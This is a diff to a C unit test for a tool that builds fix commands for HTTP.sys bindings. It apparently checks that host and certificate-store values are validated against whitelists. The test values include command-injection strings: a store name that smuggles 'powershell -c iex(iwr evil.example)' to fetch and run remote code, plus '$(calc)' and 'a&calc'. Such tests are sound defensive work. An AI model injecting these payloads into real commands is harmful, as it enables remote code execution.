@@ -84,14 +84,14 @@ static void test_hostile_values(void)
 	 * longer gets past the parser (test_model), so an IDN in Unicode form
 	 * stands for a host name that is valid but not fit for a command line
 	 */
-	struct binding_view *v = add_view(&f, EP_HOSTNAMEPORT, "b\xc3\xbc" "cher.example:443");
+	struct binding_view *v = add_view(&f, EP_HOSTNAMEPORT, "b\303\274cher.example:443");
 	const char *store = "My\" & powershell -c iex(iwr evil.example) & rem \"";
 	struct srcloc at = f.l;
 	at.line = 4;
 	binding_view_set(&f.m, v, BF_CERT_STORE, &at, store, store, 0, 1);
 	at.line = 11;
 	binding_view_set(&f.m, v, BF_CTL_STORE, &at, "$(calc)", "$(calc)", 0, 1);
-	const struct httpsys_binding *b = model_find_binding(&f.m, "hostnameport:b\xc3\xbc" "cher.example:443");
+	const struct httpsys_binding *b = model_find_binding(&f.m, "hostnameport:b\303\274cher.example:443");
 	CU_ASSERT_PTR_NOT_NULL_FATAL(b);
 	struct diag *d = diag_emit(&f.d, SEV_ERROR, &f.l, NULL, "x");
 	fix_binding_update1(&f.d, d, b, BF_NEGOTIATE_CLIENT_CERT, "enable");
@@ -128,7 +128,7 @@ static void test_whitelists(void)
 		{ FIXARG_HOST, "a..b", 0 },
 		{ FIXARG_HOST, "a b", 0 },
 		{ FIXARG_HOST, "a&calc", 0 },
-		{ FIXARG_HOST, "b\xc3\xbc" "cher.example", 0 },      /* IDN must be in xn-- form */
+		{ FIXARG_HOST, "b\303\274cher.example", 0 },      /* IDN must be in xn-- form */
 		{ FIXARG_STORE, "WebHosting", 1 },
 		{ FIXARG_STORE, "Remote Desktop", 1 },
 		{ FIXARG_STORE, " My", 0 },
